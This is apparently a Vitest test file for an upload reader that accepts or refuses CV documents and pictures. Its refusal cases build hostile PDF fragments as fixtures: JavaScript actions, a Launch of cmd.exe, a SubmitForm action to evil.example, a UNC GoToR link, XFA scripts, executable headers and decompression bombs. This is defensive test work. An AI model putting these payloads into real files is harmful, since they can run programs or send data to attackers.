import { randomFillSync } from "node:crypto";
import sharp from "sharp";
import { describe, expect, test } from "vitest";
import { readDocument } from "#app/platform/files/read-document.server.ts";
import { readerPool } from "#app/platform/files/reader-pool.server.ts";
import { fixtureBytes } from "#tests/support/fixtures.ts";
import { pdfWith, stream } from "#tests/support/pdfs.ts";

describe("a PDF is taken", () => {
  const europass = stream('<?xml version="1.0"?><SkillsPassport/>', { entries: "/Type /EmbeddedFile" });
  test.each([
    ["of one page", pdfWith()],
    ["that only its owner may change", fixtureBytes("druckschutz.pdf")],
    ["after a kilobyte of other bytes", join("\r\n".repeat(505), pdfWith())],
    ["after a mark of the text's order", join(new Uint8Array([0xef, 0xbb, 0xbf]), pdfWith())],
    ["before more bytes than its end should have", join(pdfWith(), "\0".repeat(3000))],
    ["whose table of contents is wrong", replaced(pdfWith(), /startxref\n\d+/, "startxref\n7")],
    ["that says it has a billion pages", replaced(pdfWith(), "/Count 1", "/Count 999999999")],
    ["with links", withAction("<< /S /URI /URI (https://example.org/?a=javascript:) >>")],
    ["with a link into another document", withAction("<< /S /GoToR /F (anhang.pdf) /D [0 /Fit] >>")],
    ["with an array too long for one call", pdfWith({ catalog: `/X [${"1 ".repeat(200_000)}]` })],
    ["with Europass's own data", pdfWith(attached("attachment.xml", europass))],
    ["with the same in UTF-16", pdfWith(attached(utf16("attachment.xml"), europass))],
  ])("%s", async (_, bytes) => {
    expect(await read(bytes)).toEqual({ ok: true, mediaType: "application/pdf", bytes });
  });
});

describe("a PDF is refused", () => {
  const program = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
  const xml = "<?xml version='1.0'?><x/>";
  test.each([
    ["locked", "with a password", fixtureBytes("passwort.pdf")],
    ["locked", "with a password of old", fixtureBytes("passwort-alt.pdf")],
    ["unreadable", "that is a header only", Buffer.from("%PDF-1.7\n%%EOF\n")],
    ["unreadable", "without a page", replaced(pdfWith(), "/Kids [3 0 R]", "/Kids [     ]")],
    ["unreadable", "whose pages go round in a circle", replaced(pdfWith(), "/Kids [3 0 R]", "/Kids [2 0 R]")],
    ["unreadable", "that broke off", pdfWith().subarray(0, 150)],
    ["active", "with a program at its beginning", withAction(program)],
    ["active", "with a program under another spelling", withAction("<< /S /J#61vaScript /J#53 (1) >>")],
    [
      "active",
      "with a program of names",
      pdfWith({ catalog: `/Names << /JavaScript << /Names [(a) ${program}] >> >>` }),
    ],
    ["active", "with a program in a page", pdfWith({ page: `/AA << /O ${program} >>` })],
    ["active", "with a program after a link", withAction(`<< /S /URI /URI (https://a.example) /Next [${program}] >>`)],
    ["active", "with a program no table knows", join(pdfWith(), `\n90 0 obj ${program} endobj\n%%EOF`)],
    ["active", "that starts programs", pdfWith({ page: annotation("<< /S /Launch /F (cmd.exe) >>") })],
    ["active", "that sends what is typed", withAction("<< /S /SubmitForm /F (https://evil.example) >>")],
    [
      "active",
      "that opens a file in the network",
      withAction("<< /S /GoToR /F (\\\\\\\\evil.example\\\\a) /D [0 /Fit] >>"),
    ],
    ["active", "with a link that is a program", withAction("<< /S /URI /URI (javascript:alert) >>")],
    ["active", "with a form that has programs", xfa("<template><script>1</script></template>")],
    ["attachments", "with another file", pdfWith(attached("zeugnis.doc", stream("x")))],
    ["attachments", "with a program called as Europass's data", pdfWith(attached("attachment.xml", stream("MZ\0")))],
    [
      "attachments",
      "with a page called so",
      pdfWith(attached("attachment.xml", stream("<html><script>1</script></html>"))),
    ],
    ["attachments", "with too much of it", pdfWith(attached("attachment.xml", stream(xml.padEnd(2_100_000))))],
    ["attachments", "that is an archive too", join(pdfWith(), "PK\x05\x06", new Uint8Array(18))],
    ["tooComplex", "that unpacks to far more than it is", xfa(Buffer.alloc(40 * 1024 * 1024))],
    ["wrongType", "that is a program too", join(`MZ\x90\0${" ".repeat(100)}`, pdfWith())],
  ])("as %s: one %s", async (reason, _, bytes) => {
    expect(await read(bytes)).toEqual({ ok: false, reason });
  });
});

describe("a picture", async () => {
  const photo = await drawn(60, 40).jpeg().toBuffer();
  const small = await drawn(6, 4).png().toBuffer();

  test.each([
    ["without the mark at its end", "image/jpeg", photo.subarray(0, -2)],
    ["with zeros in its place", "image/jpeg", join(photo.subarray(0, -2), new Uint8Array(30))],
    ["with a film behind it", "image/jpeg", join(photo, "MotionPhoto_Data")],
    ["that moves", "image/png", animated(small)],
    ["of the largest cameras", "image/jpeg", await drawn(8000, 6000).jpeg().toBuffer()],
  ])("%s is taken", async (_, mediaType, bytes) => {
    expect(await read(bytes)).toMatchObject({ ok: true, mediaType });
  });

  test.each([
    ["unreadable", "half of one", photo.subarray(0, photo.length / 2)],
    ["tooManyPixels", "one of 26 megapixels, 0.1 MB", await drawn(5200, 5000).png().toBuffer()],
    ["tooManyPixels", "one of 40000 by 40000", claiming(small, 40_000)],
  ])("is refused as %s: %s", async (reason, _, bytes) => {
    expect(await read(bytes)).toEqual({ ok: false, reason });
  });
});

test.each([
  ["textDocument", "lebenslauf.docx", "PK\x03\x04"],
  ["textDocument", "Lebenslauf.DOC", Buffer.from("d0cf11e0a1b11ae1", "hex")],
  ["textDocument", "lebenslauf.pdf", "{\\rtf1 Lebenslauf}"],
  ["textDocument", "lebenslauf.pages", "PK\x03\x04"],
  ["unreadable", "IMG_0001.HEIC", Buffer.from("0000001c66747970686569630000000068656963", "hex")],
  ["unreadable", "image.jpg", Buffer.from("0000001c66747970686569630000000068656963", "hex")],
  ["foreignPicture", "image.avif", Buffer.from("0000001c66747970617669660000000061766966", "hex")],
  ["foreignPicture", "scan.jpg", Buffer.from("524946462400000057454250565038", "hex")],
  ["archive", "zeugnisse.zip", "PK\x05\x06".padEnd(22, "\0")],
  ["wrongType", "lebenslauf.pdf", Buffer.from("4d5a9000030000000400", "hex")],
  ["wrongType", "lebenslauf.pdf", "<html>"],
  ["wrongType", "lebenslauf", "x"],
])("as %s: %s", async (reason, name, content) => {
  expect(await read(join(content), name)).toEqual({ ok: false, reason });
});

test("what takes too long is given up, and the next one is read", async () => {
  const impatient = readerPool({ places: 1, patience: 60_000, limit: 1, idle: 10 });
  const noise = randomFillSync(Buffer.alloc(4_000_000));
  const slow = await sharp(noise, { raw: { width: 2000, height: 2000, channels: 1 } })
    .png()
    .toBuffer();
  expect(await impatient("", { bytes: slow, name: "a.png" })).toEqual({ ok: false, reason: "tooComplex" });
  expect(await read(pdfWith())).toMatchObject({ ok: true });
});

test("who waits too long for a reader is told so", async () => {
  const full = readerPool({ places: 1, patience: 1, limit: 5000, idle: 10 });
  const [first, second] = await Promise.all(["a", "b"].map((client) => full(client, { bytes: pdfWith(), name: "" })));
  expect(first).toMatchObject({ ok: true });
  expect(second).toEqual({ ok: false, reason: "busy" });
});

const read = (bytes: Uint8Array, name = "") => readDocument("192.0.2.1", { bytes, name });

const withAction = (action: string) => pdfWith({ catalog: `/OpenAction ${action}` });
const annotation = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`;
const xfa = (content: string | Buffer) =>
  pdfWith({ catalog: "/AcroForm << /XFA [(template) 5 0 R] >>", objects: { 5: stream(content) } });

function attached(name: string, file: Buffer) {
  const specification = `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 5 0 R >> >>`;
  return { catalog: `/Names << /EmbeddedFiles << /Names [(a) ${specification}] >> >>`, objects: { 5: file } };
}

const utf16 = (text: string) => `\\376\\377${[...text].map((letter) => `\\000${letter}`).join("")}`;

function join(...parts: (string | Uint8Array)[]) {
  return new Uint8Array(
    Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : part))),
  );
}

function replaced(bytes: Uint8Array, from: string | RegExp, to: string) {
  return join(Buffer.from(bytes).toString("latin1").replace(from, to));
}

const drawn = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: "teal" } });

/** The chunk that says how many pictures there are stands before the first. */
function animated(png: Buffer) {
  const control = Buffer.from("000000086163544c0000000100000000b92d2ec8", "hex");
  const at = png.indexOf("IDAT") - 4;
  return join(png.subarray(0, at), control, png.subarray(at));
}

/** Its head promises more pixels than any machine should make. */
function claiming(png: Buffer, side: number) {
  const head = Buffer.from(png.subarray(0, 33));
  head.writeUInt32BE(side, 16);
  head.writeUInt32BE(side, 20);
  head.writeUInt32BE(crc(head.subarray(12, 29)), 29);
  return join(head, png.subarray(33));
}

function crc(bytes: Uint8Array) {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return ~sum >>> 0;
}
